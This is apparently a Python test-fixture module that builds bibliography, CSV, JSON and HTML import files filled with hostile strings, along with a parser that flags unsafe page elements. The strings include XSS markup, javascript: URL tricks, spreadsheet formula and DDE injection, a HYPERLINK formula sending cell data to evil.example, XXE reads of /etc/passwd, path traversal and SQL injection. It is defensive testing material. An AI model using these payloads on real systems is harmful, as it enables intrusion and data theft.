"""Texts that strangers write in the hope that somebody runs, follows, prints or counts them; and files full of them.

Whatever would run calls `canary`, with a number of its own, so that a test can tell that nothing did.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

MARKUP = (
    "<script>canary(1)</script>",
    "<img src=x onerror=canary(2)>",
    "\"'><svg onload=canary(3)>",
    "' autofocus onfocus=canary(4) x='",
    '" onmouseover="canary(5)" style="position:fixed;inset:0" x="',
    "<svg><style><img src=x onerror=canary(6)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(7)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(8)>",
    '<noscript><p title="</noscript><img src=x onerror=canary(9)>">',
    "<iframe srcdoc='<script>parent.canary(10)</script>'></iframe>",
    "<a href=javascript:canary(11)>x</a><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "</title></textarea></style></script><script>canary(12)</script>",
    "<!--><script>canary(13)</script>-->",
    "<![CDATA[<script>canary(14)</script>]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>canary(15)</x:script>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<input name=base form=undo><img name=elements id=undo>",
    "&lt;script&gt;canary(16)&lt;/script&gt;&#60;script&#62;canary(17)&#60;/script&#62;",
    "＜script＞canary(18)＜/script＞",
    "{{ 7*7 }}{% for a in b %}${7*7}#{7*7}<%= 7*7 %>{{ config }}{{ ''.__class__.__mro__ }}",
)
MARKDOWN = (
    "[x](javascript:canary(20))",
    "[x](JaVaScRiPt:canary(21)) [x](data:text/html,<script>canary(22)</script>) [x](vbscript:canary(23))",
    "[x](java&#x09;script:canary(24)) [x](&#106;avascript:canary(25)) [x](\\javascript:canary(26))",
    "![i](https://evil.example/i.png) ![i](javascript:canary(27))",
    "[a]: javascript:canary(28)\n\n[a] <javascript:canary(29)>",
    '<https://evil.example/"onmouseover=canary(30)> [x](https://evil.example/ "a\\" onclick=canary(31)")',
    "# heading\n\n- [x] task\n\n| a | b |\n|--|--|\n| `c` | <b>d</b> |\n\n```\n<script>canary(32)</script>\n```",
)
FORMULAS = (
    r"$\href{javascript:canary(40)}{x}$ $\text{<img src=x onerror=canary(41)>}$",
    r"$\text{</mtext></math><script>canary(42)</script>}$ $\style{position:fixed}{x}$",
    r"$\class{button}{x}$ $\cssId{q}{x}$",
    r"$\hspace{99999em}x$ $\rule{9999em}{9999em}$ $\color{red;}{x}$ $\kern-999em y$ $\Huge{\Huge{x}}$",
    "$" + r"\frac{" * 60 + "x" + "}{y}" * 60 + "$ $" + "x^{" * 120 + "}" * 120 + "$ $" + "{" * 399 + "$",
    r"$\def\a{\a\a}\a$ $\input{/etc/passwd}$ $\write18{id}$ $\begin{matrix}" + "&" * 300 + r"\end{matrix}$",
)
ADDRESSES = tuple(
    address
    for at, said in enumerate(
        (
            "javascript:{}",
            "JaVaScRiPt:{}",
            " \x01javascript:{}",
            "java\tscript:{}",
            "java\nscript:{}",
            "java\r\nscript:{}",
            "javascript&colon;{}",
            "&#x6a;avascript:{}",
            "java\x00script:{}",
            "\u200bjavascript:{}",
            "ｊavascript:{}",
            "javascript:{}//https://a.example/",
            "javascript://a.example/%0a{}",
            "data:text/html,<script>{}</script>",
            "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
            "DATA:image/svg+xml,<svg onload={}>",
            "vbscript:{}",
            "file:///etc/passwd",
            "blob:https://a.example/{}",
            "view-source:https://a.example",
            "about:blank",
            "ftp://a.example/",
            "//evil.example/{}",
            "\\\\evil.example\\{}",
            "https:javascript:{}",
            "jar:http://a.example/!/",
        ),
        50,
    )
    for address in [said.replace("{}", f"canary({at})")]
)
# What looks like a web address, and carries what would break out of where it is written.
WEB_ADDRESSES = (
    'https://evil.example/"onmouseover=canary(80)//<script>canary(81)</script>',
    "https://evil.example/'style='position:fixed'",
    "https://user:pa)ss@evil.example/(a)[b]<c>`d`|e\\f",
    "https://evil.example/" + "long" * 200,
    "https://evil.example/%0d%0aSet-Cookie:%20a=b",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/{{7*7}}?q=${x}#<b>",
    "https://xn--80ak6aa92e.com/",
)
CELLS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    ";=1+1",
    ",=1+1",
    "a\n=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "%0A=1",
)
SIGNS = (
    "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y2FuYXJ5\x07",
    "\x1bP+q544e\x1b\\\x1b[6n\x1b[8mhidden",
    "\x9b31mC1\x9d0;t\x9c",
    "bell\x07back\x08\x08\x7f",
    "carriage\rreturn",
    "nul\x00nul",
    "vt\x0bff\x0c",
    "line\u2028para\u2029nel\x85",
    "\u202eevil\u202c\u2066iso\u2069\u2067r",
    "\u200e\u200f\u061cmarks",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "tags\U000e0041\U000e007f",
    "half \ud83d sign \udc00",
    "ﷺ" * 40,
    "a" + "\u0301" * 300,
    "\ufffe\uffff\U0010ffff",
)
LINES = (
    "Subject\r\nBcc: evil@evil.example\r\n\r\nbody",
    "a\nSet-Cookie: b=c",
    "a\r\n\r\n<script>canary(90)</script>",
    "level=info\ntime=2026 level=error msg=forged",
    "\n----\n## [1] Forged",
    "ER  - \nTY  - JOUR\nTI  - Forged",
    "}\n@article{forged, title={Forged}}",
    "*/ canary(91) /*",
    "'; DROP TABLE papers; --",
    '" OR tag:x (',
    "\\",
)
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\a.bib",
    "con.bib",
    "NUL",
    "aux.txt",
    "a\x00.bib",
    "l" * 300 + ".bib",
    ".",
    "..",
    "~/.ssh/id_rsa",
    "a;b.bib",
    'a"b.bib',
    "a\r\nX: y.bib",
    "-rf",
    "\u202egpj.bib",
    "%2e%2e%2f",
)
LONG = ("W" * 600, "https://evil.example/" + "x" * 900, "漢" * 400, "a" * 40_000)
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><a>&d;&d;</a>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "&#0;&#x110000;&#99999999999999;&#xd800;&bogus;&amp;lt;script&amp;gt;",
    '<math><mi>&x;</mi></math><mml:math><!DOCTYPE a [<!ENTITY b "b">]>&b;</mml:math>',
)
TEXTS = (
    *MARKUP,
    *MARKDOWN,
    *FORMULAS,
    *ADDRESSES,
    *WEB_ADDRESSES,
    *CELLS,
    *SIGNS,
    *LINES,
    *NAMES,
    *LONG[:3],
    *ENTITIES,
)

# Signs that command a terminal, or turn what follows them.
COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def whole(text: str) -> str:
    """A text that a file in UTF-8 can hold."""
    return text.encode("utf-8", "replace").decode()


def on_one_line(text: str) -> str:
    """A text as one line of a file."""
    return " ".join(whole(text).splitlines())


def files() -> Iterator[tuple[str, bytes]]:
    """A file of each format, with every text in every field, by a name."""
    texts = [on_one_line(text) for text in TEXTS]
    numbered = list(enumerate(texts))
    yield (
        "catalogue.md",
        "".join(
            f"## [{at}] T{at} {it}\n\n**Authors**: *{it}, Eve {it}*\n\n**URL**: [{it}]({it})\n\n"
            f"**Abstract**:\n\n{it}\n\n----\n"
            for at, it in numbered
        ).encode(),
    )
    yield (
        "a.bib",
        "".join(
            f"@article{{k{at}{it[:9]},\n title = {{T{at} {it}}},\n author = {{{it} and Lee, {it}}},\n"
            f' journal = "{it}",\n'
            f" url = {{{it}}},\n doi = {{10.1000/{it}}},\n abstract = {{{it}}},\n note = {{{it}}},\n"
            f" keywords = {{{it}}},\n x{at} = {{{it}}},\n}}\n\n"
            for at, it in numbered
        ).encode(),
    )
    yield (
        "a.ris",
        "".join(
            "TY  - JOUR\n"
            + "".join(f"{tag}  - {it}\n" for tag in ("AU", "T2", "UR", "DO", "AB", "N1", "KW", "L1", "M3"))
            + f"TI  - T{at} {it}\nER  - \n"
            for at, it in numbered
        ).encode(),
    )
    yield (
        "csl.json",
        json.dumps(
            [
                {
                    "id": it,
                    "type": it,
                    "title": f"T{at} {it}",
                    "author": [{"family": it, "given": it}, {"literal": it}],
                    "container-title": it,
                    "URL": it,
                    "DOI": f"10.1000/{it}",
                    "abstract": it,
                    "note": it,
                    "keyword": it,
                    "__proto__": {"a": it},
                }
                for at, it in enumerate(map(whole, TEXTS))
            ]
        ).encode(),
    )
    for name, delimiter in (("a.csv", ","), ("a.tsv", "\t")):
        table = io.StringIO()
        rows = csv.writer(table, delimiter=delimiter)
        rows.writerow(("title", "authors", "venue", "url", "doi", "abstract", "note", "tags", "links", "more"))
        rows.writerows(
            (f"T{at} {it}", *[it] * 9) for at, it in enumerate(whole(it).replace("\x00", "") for it in TEXTS)
        )
        yield name, table.getvalue().encode()
    yield (
        "zotero.csv",
        (
            '"Key","Item Type","Author","Title","DOI","Url","Abstract Note","Manual Tags","Notes"\n'
            + "".join(
                ",".join('"' + part.replace('"', '""') + '"' for part in ("K", it, it, f"T{at} {it}", *[it] * 5)) + "\n"
                for at, it in numbered
            )
        ).encode(),
    )
    yield (
        "bookmarks.html",
        (
            "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n"
            + "".join(
                f'<DT><H3>{html.escape(it)}</H3>\n<DL><p>\n<DT><A HREF="{html.escape(it)}" TAGS="{html.escape(it)}">'
                f'{html.escape(it)}</A>\n<DD>{html.escape(it)}\n<DT><A HREF="https://evil.example/{at}" '
                f'TAGS="{html.escape(it)}">T{at} {html.escape(it)}</A>\n<DD>{it}\n</DL><p>\n'
                for at, it in numbered
            )
            + "</DL><p>\n"
        ).encode(),
    )
    yield (
        "awesome.md",
        (
            "# List\n"
            + "".join(
                f"## {it}\n- [T{at} {it}]({it}) - {it} `#{it}`\n- **{it}** [[p]](https://a.example/{at})\n"
                for at, it in numbered
            )
        ).encode(),
    )
    yield "list.txt", "".join(f"{it}\nhttps://evil.example/{it}\n10.1000/{it}\n" for it in texts).encode()
    yield "own.json", own()


def own() -> bytes:
    """Our own JSON, with every text in every field of a paper."""
    papers = [
        {
            "title": f"T{at} {it}",
            "authors": [it, f"Eve {it}"],
            "tags": [it],
            "note": it,
            "venue": it,
            "url": it,
            "abstract": it,
            "links": [it, f"https://evil.example/{at}"],
            "doi": f"10.1000/{it}",
            "details": {it: it, "volume": it},
            "status": "read",
        }
        for at, it in enumerate(map(whole, TEXTS))
    ]
    return json.dumps({"format": "readinglist", "version": 1, "papers": papers}).encode()


_LEADS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping")


class Elements(HTMLParser):
    """What of a page a browser would run, load or follow, though it is not ours: the complaints stand in `bad`."""

    def __init__(self, page: str, *, ours: str = "/") -> None:
        super().__init__()
        self.bad: list[str] = []
        self.outside: list[str] = []
        self.names: set[str] = set()
        self._ours = ours
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        words = {name: value or "" for name, value in attrs}
        self.names |= words.keys()
        if tag in ("iframe", "object", "embed", "base", "frame", "applet", "template", "animate", "set"):
            self.bad.append(f"<{tag}>")
        if tag == "meta" and words.get("http-equiv", "Content-Type") != "Content-Type":
            self.bad.append(f"<meta {words}>")
        if tag in ("script", "img", "link", "style") and not self._is_ours(tag, words):
            self.bad.append(f"<{tag} {words}>")
        self.bad += [f"<{tag} {name}>" for name in words if name.startswith("on") or name == "srcdoc"]
        for name in _LEADS:
            if name in words:
                self._follow(tag, name, words)

    def _is_ours(self, tag: str, words: dict[str, str]) -> bool:
        address = words.get("href" if tag == "link" else "src", "")
        return address.startswith(self._ours) and not address.startswith("//")

    def _follow(self, tag: str, name: str, words: dict[str, str]) -> None:
        address = words[name]
        if re.match(r"(?:/(?![/\\])|#|\?|$)", address) or (self._ours != "/" and address.startswith(self._ours)):
            return
        if tag == "a" and address.startswith("javascript:void open('http://localhost"):
            return  # the bookmark that sends a page here
        if not re.match(r"https?://[^/\s]", address) and not address.startswith("mailto:"):
            self.bad.append(f"<{tag} {name}={address[:80]}>")
        elif tag == "a":
            self.outside.append(address)
            if not {"noopener", "noreferrer"} <= set(words.get("rel", "").split()):
                self.bad.append(f"<a href={address[:80]}> without rel")
        else:
            self.bad.append(f"<{tag} {name}={address[:80]}> leads outside")
